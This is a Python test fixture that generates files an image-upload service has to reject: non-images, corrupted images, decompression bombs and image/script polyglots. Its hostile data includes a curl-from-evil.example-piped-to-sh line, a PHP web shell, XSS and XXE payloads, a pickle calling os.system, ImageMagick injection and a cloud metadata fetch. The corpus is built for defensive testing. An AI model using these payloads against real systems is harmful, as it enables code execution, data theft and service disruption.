"""Files that nobody should get past an upload, the same ones each time: bytes that are no picture, pictures that are
damaged, and pictures that are more than they seem."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

from PIL import Image

from services.media.tests.samples import encoded, png_header, quarters

KINDS = ("JPEG", "PNG", "WEBP", "AVIF")
_HEIC = Path(__file__).parents[3] / "services" / "media" / "tests" / "heic" / "orientation-1.heic"
_SCRIPT = b"<script>alert(document.domain)</script>"


def corpus() -> Iterator[tuple[str, bytes]]:
    """Each file with a name that says what is wrong with it."""
    for group in (_no_pictures, _markup, _noise, _cut, _broken_png, _broken_jpeg, _broken_boxes, _bombs, _tiny):
        yield from group()
    yield from _animated()
    yield from _polyglots()


def _photo(kind: str = "JPEG", side: int = 128) -> bytes:
    noise = random.Random(side).randbytes(side * side * 3)  # noqa: S311 - the same each time
    # Several threads would not make the same bytes each time.
    options = {"max_threads": 1} if kind == "AVIF" else {}
    return encoded(Image.frombytes("RGB", (side, side), noise), kind, **options)


def _no_pictures() -> Iterator[tuple[str, bytes]]:
    still = {
        "gif": encoded(quarters(), "GIF"),
        "bmp": encoded(quarters(), "BMP"),
        "tiff": encoded(quarters(), "TIFF"),
        "ico": encoded(quarters(), "ICO"),
        "ppm": encoded(quarters(), "PPM"),
        "jpeg2000": encoded(quarters(), "JPEG2000"),
        "eps": encoded(quarters(), "EPS"),
        "pdf": encoded(quarters(), "PDF"),
        "tga": encoded(quarters(), "TGA"),
        "pcx": encoded(quarters(), "PCX"),
        "dds": encoded(quarters(), "DDS"),
        "sgi": encoded(quarters(), "SGI"),
        "xbm": encoded(quarters().convert("1"), "XBM"),
        "icns": encoded(quarters().resize((128, 128)), "ICNS"),
        "psd": b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 64, 64, 8, 3) + bytes(64 * 64 * 3),
        "elf": b"\x7fELF\2\1\1" + bytes(200),
        "exe": b"MZ" + bytes(200),
        "shell": b"#!/bin/sh\ncurl evil.example | sh\n",
        "mp4": struct.pack(">I", 24) + b"ftypisom" + bytes(12) + b"mdat" * 50,
        "webm": b"\x1aE\xdf\xa3" + bytes(100),
        "mp3": b"ID3\4" + bytes(100),
        "wav": b"RIFF\x24\0\0\0WAVEfmt " + bytes(30),
        "zip": _zip(),
        "gzip": zlib.compress(bytes(1000), wbits=31),
        "postscript": b"%!PS-Adobe-3.0\n(%pipe%id) (w) file\n",
        "imagemagick": b'push graphic-context\nimage over 0,0 0,0 "|id"\npop graphic-context\n',
        "playlist": b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n",
        "text": b"hello",
        "null": b"\0",
        "nulls": bytes(100_000),
        "newline": b"\n",
        "json": b'{"image": "aGk="}',
        "data uri": b"data:image/png;base64,iVBORw0KGgo=",
        "url": b"https://images.example/cat.jpg",
        "pickle": b"\x80\x04cos\nsystem\n(S'id'\ntR.",
    }
    yield from still.items()


def _markup() -> Iterator[tuple[str, bytes]]:
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' width='100' height='100'>%s</svg>"
    for name, inside in {
        "plain": b"<rect width='9' height='9'/>",
        "script": b"<script>alert(1)</script>",
        "handler": b"<g onload='alert(1)'/>",
        "foreign": b"<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>",
        "fetch": b"<image href='http://169.254.169.254/latest/meta-data/'/>",
        "use": b"<use href='data:image/svg+xml;base64,PHN2Zy8+'/>",
    }.items():
        yield f"svg {name}", svg % inside
        yield f"svg {name} in XML", b"<?xml version='1.0' encoding='utf-8'?>\n" + svg % inside
        yield f"svg {name} after a mark", "\ufeff".encode() + svg % inside
        yield f"svg {name} in UTF-16", (svg % inside).decode().encode("utf-16")
        yield f"svg {name}, zipped", zlib.compress(svg % inside, wbits=31)
    entity = b"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"
    yield "svg entity", entity + svg % b"<text>&a;</text>"
    laughs = b"".join(b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 9))
    yield "svg laughs", b"<!DOCTYPE svg [<!ENTITY a0 'ha'>" + laughs + b"]>" + svg % b"<text>&a8;</text>"
    yield "html", b"<!doctype html><html><body onload=alert(1)></body></html>"
    yield "html fragment", _SCRIPT
    yield "xml", b"<?xml version='1.0'?><a/>"
    yield "php", b"<?php system($_GET['c']);"


def _noise() -> Iterator[tuple[str, bytes]]:
    source = random.Random(11)  # noqa: S311 - the same each time
    marks = {
        "nothing": b"",
        "jpeg": b"\xff\xd8\xff\xe0\0\x10JFIF\0",
        "png": b"\x89PNG\r\n\x1a\n",
        "webp": b"RIFF\xff\xff\0\0WEBPVP8 ",
        "avif": struct.pack(">I", 28) + b"ftypavif\0\0\0\0avifmif1miaf",
        "heic": struct.pack(">I", 24) + b"ftypheic\0\0\0\0mif1heic",
        "gif": b"GIF89a",
    }
    for name, mark in marks.items():
        for size in (0, 10, 1000, 50_000):
            if mark or size:
                yield f"{size} bytes of noise after the mark of {name}", mark + source.randbytes(size)


def _cut() -> Iterator[tuple[str, bytes]]:
    whole = {kind.lower(): _photo(kind) for kind in KINDS} | {"heic": _HEIC.read_bytes()}
    for kind, data in whole.items():
        for percent in (1, 5, 20, 40, 60, 80):
            yield f"{kind} cut at {percent} %", data[: len(data) * percent // 100]
        yield f"{kind} without its beginning", data[len(data) // 3 :]
        if kind == "png":  # the others' decoders go on, as they do after a fault of the camera
            yield f"{kind} whose end is nothing", data[: len(data) // 2] + bytes(len(data) // 2)
        yield f"{kind} backwards", data[::-1]
        yield f"{kind} as text", data.decode("latin-1").encode()


def _broken_png() -> Iterator[tuple[str, bytes]]:
    def png(width: int, height: int, head: bytes, *rest: bytes) -> bytes:
        return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">II", width, height) + head) + b"".join(rest)

    pixels, end = _chunk(b"IDAT", zlib.compress(bytes(64 * 64 * 4))), _chunk(b"IEND", b"")
    for depth in (0, 3, 5, 7, 9, 255):
        yield f"png of {depth} bits", png(64, 64, bytes([depth, 2, 0, 0, 0]), pixels, end)
    for colour in (1, 5, 7, 255):
        yield f"png of colour type {colour}", png(64, 64, bytes([8, colour, 0, 0, 0]), pixels, end)
    rgb = bytes([8, 2, 0, 0, 0])
    for width, height in ((0, 64), (64, 0), (0, 0), (2**31, 64), (2**32 - 1, 2**32 - 1)):
        yield f"png of {width} by {height}", png(width, height, rgb, pixels, end)
    yield "png without pixels", png(64, 64, rgb, end)
    yield "png of too few pixels", png(640, 640, rgb, pixels, end)
    yield "png of bad deflate", png(64, 64, rgb, _chunk(b"IDAT", b"\x78\x9c" + b"\xff" * 50), end)
    yield "png whose head does not add up", png(64, 64, rgb, pixels, end)[:29] + b"\0\0\0\0" + pixels + end
    yield "png whose head is short", b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", b"\0\0\0\x40") + pixels + end
    yield "png whose chunk is endless", png(64, 64, rgb, struct.pack(">I", 2**31 - 1) + b"IDAT", bytes(100))
    yield "png whose pixels come first", b"\x89PNG\r\n\x1a\n" + pixels + end


def _broken_jpeg() -> Iterator[tuple[str, bytes]]:
    whole = _photo()
    frame = whole.index(b"\xff\xc0")
    yield "jpeg without tables", whole[:2] + whole[frame:]
    yield "jpeg without a frame", whole[:frame] + whole[whole.index(b"\xff\xda") :]
    yield "jpeg without a scan", whole[: whole.index(b"\xff\xda")] + b"\xff\xd9"
    yield "jpeg of nothing", b"\xff\xd8\xff\xd9"
    yield "jpeg of marks", b"\xff\xd8" + b"\xff" * 10_000
    for name, at, value in (
        ("without components", 9, b"\0"),
        ("of 200 components", 9, b"\xc8"),
        ("of 3 bits", 4, b"\3"),
        ("without width", 7, b"\0\0"),
        ("of a bad sampling", 11, b"\0"),
    ):
        yield f"jpeg {name}", whole[: frame + at] + value + whole[frame + at + len(value) :]
    for number in (3, 5, 11, 13):
        yield f"jpeg of process {number}", whole[: frame + 1] + bytes([0xC0 + number]) + whole[frame + 2 :]


def _broken_boxes() -> Iterator[tuple[str, bytes]]:
    for kind, data in (("avif", _photo("AVIF")), ("heic", _HEIC.read_bytes())):
        for box in (b"meta", b"iloc", b"iinf", b"iprp", b"ispe", b"pitm"):
            yield f"{kind} without {box.decode()}", data.replace(box, b"free")
        yield (
            f"{kind} whose box is endless",
            data.replace(struct.pack(">I", data.index(b"meta") - 4), b"\xff\xff\xff\xf0", 1),
        )
    webp = _photo("WEBP")
    yield "webp of another codec", webp.replace(b"VP8 ", b"VP7 ")
    yield "webp that claims to be longer", webp[:16] + b"\xff\xff\xff\x7f" + webp[20:]
    yield "webp without a key frame", webp[:20] + b"\xff" * 10 + webp[30:]


def _bombs() -> Iterator[tuple[str, bytes]]:
    for width, height in ((6_325, 6_325), (12_000, 12_000), (40_000_001, 1), (64, 700_000), (2**31 - 1, 2**31 - 1)):
        yield f"png that claims {width} by {height}", png_header(width, height)
    packed = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(packed, "PNG")
    yield "png of 144 megapixels", packed.getvalue()
    frame = _photo().index(b"\xff\xc0") + 5
    for side in (8_000, 65_500):
        yield (
            f"jpeg that claims {side} by {side}",
            _photo()[:frame] + struct.pack(">HH", side, side) + _photo()[frame + 4 :],
        )
    for side in (8_000, 16_384):
        head = struct.pack("<I", 0)[:4] + struct.pack("<I", side - 1)[:3] * 2
        body = b"VP8X" + struct.pack("<I", 10) + head + _photo("WEBP")[12:]
        yield f"webp that claims {side} by {side}", b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body
    for kind, data in (("avif", _photo("AVIF")), ("heic", _HEIC.read_bytes())):
        for side in (8_000, 16_000, 2**31):
            at = data.index(b"ispe") + 8
            yield f"{kind} that claims {side} by {side}", data[:at] + struct.pack(">II", side, side) + data[at + 8 :]
    text = b"Comment\0\0" + zlib.compress(bytes(80_000_000), 9)
    whole = _photo("PNG", 64)
    yield "png with a comment of 80 MB", whole[:33] + _chunk(b"zTXt", text) * 2 + whole[33:]


def _tiny() -> Iterator[tuple[str, bytes]]:
    for kind in KINDS:
        for size in ((1, 1), (63, 63), (63, 500), (500, 63), (2, 3000)):
            yield f"{kind.lower()} of {size[0]} by {size[1]}", encoded(Image.new("RGB", size), kind)


def _animated() -> Iterator[tuple[str, bytes]]:
    frames = [Image.new("RGB", (96, 64), (shade, 99, 0)) for shade in range(0, 250, 25)]
    for kind in ("PNG", "WEBP", "AVIF", "GIF"):
        for count in (2, 10):
            yield (
                f"{kind.lower()} of {count} frames",
                encoded(frames[0], kind, save_all=True, append_images=frames[1:count], duration=40),
            )


def _polyglots() -> Iterator[tuple[str, bytes]]:
    tails = {
        "a script": _SCRIPT,
        "a page": b"<!DOCTYPE html><html><body>hi</body></html>",
        "a drawing": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "a program of PHP": b"<?php system($_GET['c']); __halt_compiler();",
        "a handler": b"<img src=x onerror=alert(1)>",
        "an archive": _zip(),
        "a frame": b"<iframe src=javascript:alert(1)>",
    }
    whole = {kind.lower(): _photo(kind) for kind in KINDS} | {"heic": _HEIC.read_bytes()}
    for kind, data in whole.items():
        for name, tail in tails.items():
            yield f"{kind} and {name}", data + tail
    jpeg = _photo()
    yield "jpeg and a script in its comment", encoded(quarters(), comment=_SCRIPT)
    yield (
        "jpeg and a program in JavaScript",
        (jpeg[:2] + b"\xff\xe0/*JFIF\0" + bytes(0x2F2A - 7 - 12) + b"*/=alert(1)/*" + jpeg[2:] + b"*/"),
    )
    yield "jpeg and a document", jpeg[:2] + b"\xff\xfe\0\x0a%PDF-1.7" + jpeg[2:]
    yield "gif and a program in JavaScript", b"GIF89a/*" + bytes(50) + b"*/=alert(1)//"
    yield "bmp and a program in JavaScript", b"BM/*" + bytes(50) + b"*/=alert(1)//"
    png = _photo("PNG")
    yield "png and a script in its text", png[:33] + _chunk(b"tEXt", b"Comment\0" + _SCRIPT) + png[33:]


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        target.writestr(zipfile.ZipInfo("evil.class"), b"\xca\xfe\xba\xbe")
    return out.getvalue()
